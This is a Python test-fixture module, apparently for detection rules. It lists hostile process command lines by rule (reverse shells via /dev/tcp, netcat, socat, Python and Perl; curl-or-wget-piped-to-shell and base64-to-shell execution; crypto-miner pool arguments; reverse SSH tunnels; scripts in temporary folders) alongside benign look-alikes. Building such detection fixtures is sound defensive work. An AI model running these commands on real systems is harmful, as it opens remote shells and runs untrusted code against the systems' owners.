"""Command lines that rules must know, and such that look alike."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Mapping

HOSTILE: Mapping[str, tuple[str, ...]] = {
    "reverse-shell-command": (
        "bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
        "/bin/bash -c 0<&196;exec 196<>/dev/tcp/192.0.2.7/9; /bin/sh -i <&196 >&196 2>&196",
        "sh -c sh < /dev/udp/192.0.2.7/53 0>&1",
        "bash -c exec 5<>/dev/tcp/192.0.2.7/9; cat <&5 | while read l; do $l 2>&5 >&5; done",
        "nc -e /bin/sh 192.0.2.7 4444",
        "/usr/bin/nc.traditional 192.0.2.7 4444 -c bash",
        "ncat --ssl -nve /bin/bash 192.0.2.7 443",
        "ncat 192.0.2.7 443 --sh-exec /bin/sh",
        "sh -c rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f",
        "sh -c telnet 192.0.2.7 4444 | /bin/sh | telnet 192.0.2.7 4445",
        "socat exec:'bash -li',pty,stderr,setsid tcp:192.0.2.7:4444",
        "socat TCP:192.0.2.7:4444 EXEC:/bin/sh",
        'python3 -c import socket as s,os;c=s.socket();c.connect(("192.0.2.7",9));os.dup2(c,0)',
        'python -c import socket,pty;s=socket.socket();s.connect(("192.0.2.7",9));pty.spawn("sh")',
        'perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);exec("sh -i");',
    ),
    "downloaded-and-run": (
        "sh -c curl -fsSL http://192.0.2.7/x | bash",
        "bash -c wget -qO- http://192.0.2.7/i.sh?a=1&b=2 | sudo /bin/sh -s -- -q",
        "sh -c (curl -s http://192.0.2.7/a||wget -qO- http://192.0.2.7/a)|sh",
        "/bin/sh -c curl http://192.0.2.7/a.py | python3",
        "bash -c echo aWQK | base64 -d | bash",
        "bash -c base64 --decode /tmp/x|sh",
        'sh -c sh -c "$(curl -fsSL http://192.0.2.7/x)"',
        "bash -c bash <(curl -s http://192.0.2.7/x) -q",
        "bash -c source <(wget -qO- http://192.0.2.7/x)",
        "bash -c eval $(echo aWQK | base64 -d)",
    ),
    "miner": (
        "./a -o stratum+tcp://192.0.2.7:3333 -u w",
        "x -o stratum+ssl://192.0.2.7:443",
        "x --donate-level 1",
        "x --donate-level=0 --cpu-max-threads-hint=75",
        "x -a rx/0 -o 192.0.2.7:3333",
        "x --coin=monero -o 192.0.2.7:3333",
    ),
    "tunnel": (
        "ssh -N -R 2222:localhost:22 u@192.0.2.7",
        "ssh -fNR 2222:localhost:22 u@192.0.2.7",
        "ssh -D 1080 192.0.2.7",
        "autossh -M 0 -NTR 8080:localhost:80 h",
    ),
    "script-in-temporary-folder": (
        "/bin/bash /tmp/lab/scenario.sh",
        "python3 -u /dev/shm/a.py",
        "perl /var/tmp/.x/a.pl 192.0.2.7",
        "sh -c /tmp/x.sh",
    ),
    "kernel-thread-name": (
        "[kworker/0:9]",
        "[kthreadd] 100000",
    ),
}
"""What the patterns of a rule find, by the rule's slug."""

HARMLESS = (
    "/lib/systemd/systemd --switched-root --system --deserialize 31",
    "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
    "sshd: u [priv]",
    "/usr/sbin/sshd -D -R",
    "ssh -o StrictHostKeyChecking=no -i key u@192.0.2.7 uptime",
    "ssh -oRemoteCommand=none -p 22 u@192.0.2.7",
    "ssh -L 5432:localhost:5432 u@192.0.2.7",
    "/bin/bash /opt/lab/scenario.sh",
    "bash -i",
    "bash -c timeout 1 bash -c '</dev/tcp/db/5432'",
    "bash -c exec 3<>/dev/tcp/127.0.0.1/8080; echo GET >&3; cat <&3",
    "sh -c (echo > /dev/tcp/db/5432) >/dev/null 2>&1",
    "bash -c exec 3<>/dev/tcp/127.0.0.1/80; while read l; do echo $l; done <&3",
    "nc -z -w 3 db 5432",
    "nc -l -p 9100",
    "curl -fsSL http://192.0.2.7/x -o /tmp/x",
    "sh -c curl -s http://192.0.2.7/metrics | grep up",
    "sh -c wget -qO- http://192.0.2.7/a.tar | tar x",
    'sh -c echo "$(curl -s http://192.0.2.7/version)"',
    "bash -c . /etc/profile; curl http://192.0.2.7/x",
    "bash -c nc db 80 | sh-format | less",
    "sh -c base64 -d secret > /run/key",
    "socat TCP-LISTEN:80,fork TCP:192.0.2.7:80",
    "python3 -m http.server",
    "python3 /usr/bin/networkd-dispatcher --run-startup-triggers",
    "postgres: 15/main: logical replication launcher",
    "nginx: worker process",
    "[celeryd: worker@host:MainProcess] -active- (worker)",
    "[lxc monitor] /var/lib/lxc guest",
    "(sd-pam)",
    "php-fpm: pool www",
    "tar -a -cf /tmp/x.tar /etc",
    "vim /tmp/notes",
    "cc -o /tmp/a.out a.c",
    "sh -c echo /tmp/x",
    "qemu-system-x86_64 -cpu host --algorithm x",
)
"""What no pattern finds."""
